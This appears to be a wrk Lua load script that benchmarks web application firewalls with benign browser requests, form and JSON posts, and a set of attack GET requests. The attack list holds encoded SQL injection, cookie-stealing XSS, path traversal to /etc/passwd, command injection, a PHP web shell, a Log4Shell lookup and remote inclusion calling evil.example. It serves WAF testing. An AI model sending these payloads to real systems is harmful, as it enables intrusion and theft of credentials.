-- wrk script for bench/waf.sh: the request mix of one WAF load, the same for every proxy.
--
--   wrk ... -s bench/waf_load.lua URL -- get-benign|get-attack|post-form|post-json [BODY_BYTES]
--
--   get-benign  browser GETs of varied pages, some with query strings
--   get-attack  GETs whose query string carries an attack (SQLi, XSS, LFI, RCE, PHP, Java,
--               Node.js): with a blocking WAF most are answered 403, which wrk counts
--               as non-2xx
--   post-form   application/x-www-form-urlencoded POSTs of BODY_BYTES (default 4096)
--   post-json   application/json POSTs of BODY_BYTES (default 4096)
--
-- Every request carries the headers of a desktop browser (or an API client for JSON). The
-- requests are built once per thread in init(); request() hands them out in turn, from a
-- per-thread offset so the threads do not move in lockstep.

local requests = {}
local n, i = 0, 0

local browser = {
  ["Host"] = "shop.example.com",
  ["User-Agent"] = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
  ["Accept"] = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
  ["Accept-Language"] = "en-US,en;q=0.9",
  ["Accept-Encoding"] = "gzip, deflate, br",
  ["Referer"] = "https://shop.example.com/products",
  ["Cookie"] = "sid=8c1f0e5b2a4d47f0b1e3c9a7d6f5e4c3; consent=yes; theme=dark",
}

local function with(base, extra)
  local h = {}
  for k, v in pairs(base) do h[k] = v end
  for k, v in pairs(extra or {}) do h[k] = v end
  return h
end

local benign_paths = {
  "/", "/products", "/products/18233", "/products/18233/reviews?page=2",
  "/category/shoes?color=blue&size=M&sort=price_asc", "/search?q=men%27s+leather+wallet",
  "/search?q=running+shoes&page=3", "/blog/2024/05/how-we-roast-coffee", "/help/shipping",
  "/cart", "/account/orders?status=shipped", "/static/css/site.3f9a1c.css",
  "/static/js/app.77b2e0.js", "/images/p/48213.jpg", "/about?utm_source=newsletter&utm_medium=email",
  "/faq#returns",
}

local attack_paths = {
  "/search?q=%27+OR+%271%27%3D%271",
  "/products?id=1+UNION+ALL+SELECT+username%2C+password+FROM+users",
  "/item?id=1%27+AND+SLEEP%285%29--",
  "/search?q=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E",
  "/view?name=%3Cimg+src%3Dx+onerror%3Dalert%281%29%3E",
  "/page?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
  "/download?path=%2Fproc%2Fself%2Fenviron",
  "/ping?host=127.0.0.1%3B+cat+%2Fetc%2Fpasswd",
  "/run?cmd=%24%28id%29",
  "/index.php?page=php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex.php",
  "/x?code=%3C%3Fphp+system%28%24_GET%5B%27c%27%5D%29%3B+%3F%3E",
  "/api?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
  "/load?url=http%3A%2F%2Fevil.example%2Fshell.txt%3F",
  "/node?x=require%28%27child_process%27%29.exec%28%27id%27%29",
  "/search?q=1%3Bdeclare+%40q+varchar%2899%29%3Bexec+master.dbo.xp_dirtree+%40q",
  "/item?page=%3Csvg%2Fonload%3Dalert%601%60%3E",
}

-- pad_to(s, n, filler): s with filler appended (cut) so that it is n bytes long.
local function pad_to(s, n, filler)
  if #s >= n then return s:sub(1, n) end
  local out = { s }
  local len = #s
  while len < n do
    local piece = filler:sub(1, n - len)
    out[#out + 1] = piece
    len = len + #piece
  end
  return table.concat(out)
end

local prose = "Hello, I ordered the blue running shoes last week and the size is too small. " ..
  "Could you exchange them for a 44 and send a return label? Thanks a lot, have a nice day. "

local function form_body(k, size)
  local s = "name=Jane+Doe&email=jane.doe%40example.org&address=" .. (100 + k) ..
    "+Main+St.%2C+Apt+7&city=Portland&zip=97201&subject=Exchange+request&order=A-" .. (58000 + k) ..
    "&csrf_token=4f2a9c1be07d35a8f6c2e91d0b7a4c3e5f6a7b8c&message="
  local msg = prose:gsub(" ", "+"):gsub(",", "%%2C"):gsub("%?", "%%3F")
  return pad_to(s, size, msg)
end

local function json_body(k, size)
  local items = {}
  for j = 1, 40 do
    items[#items + 1] = string.format(
      '{"sku":"SKU-%d","name":"Item %d","qty":%d,"price":%d.99,"tags":["summer","sale"]}',
      1000 + (k * 7 + j) % 9000, j, 1 + j % 3, 5 + j % 90)
  end
  local s = string.format('{"cart_id":"c-%08d","customer":{"name":"Jane Doe","email":"jane@example.org",' ..
    '"note":"%s"},"items":[%s', k, prose, table.concat(items, ","))
  local closing = '],"gift":false}'
  s = s:sub(1, size - #closing)
  -- Cut back to the end of a whole item so the document stays valid JSON.
  s = s:match("^(.*})") or s
  return pad_to(s .. closing, size, " ")
end

function init(args)
  local load = args[1] or "get-benign"
  local size = tonumber(args[2] or "4096")
  if load == "get-benign" then
    for _, p in ipairs(benign_paths) do requests[#requests + 1] = wrk.format("GET", p, browser) end
  elseif load == "get-attack" then
    for _, p in ipairs(attack_paths) do requests[#requests + 1] = wrk.format("GET", p, browser) end
  elseif load == "post-form" then
    local h = with(browser, { ["Content-Type"] = "application/x-www-form-urlencoded",
                              ["Origin"] = "https://shop.example.com" })
    for k = 1, 8 do requests[#requests + 1] = wrk.format("POST", "/contact", h, form_body(k, size)) end
  elseif load == "post-json" then
    local h = { ["Host"] = "shop.example.com", ["User-Agent"] = "okhttp/4.12.0",
                ["Accept"] = "application/json", ["Content-Type"] = "application/json",
                ["Authorization"] = "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOjQyfQ.c2lnbmF0dXJl" }
    for k = 1, 8 do requests[#requests + 1] = wrk.format("POST", "/api/v1/cart", h, json_body(k, size)) end
  else
    error("waf_load.lua: unknown load " .. load)
  end
  n = #requests
  i = math.random(n)
end

function request()
  i = i % n + 1
  return requests[i]
end
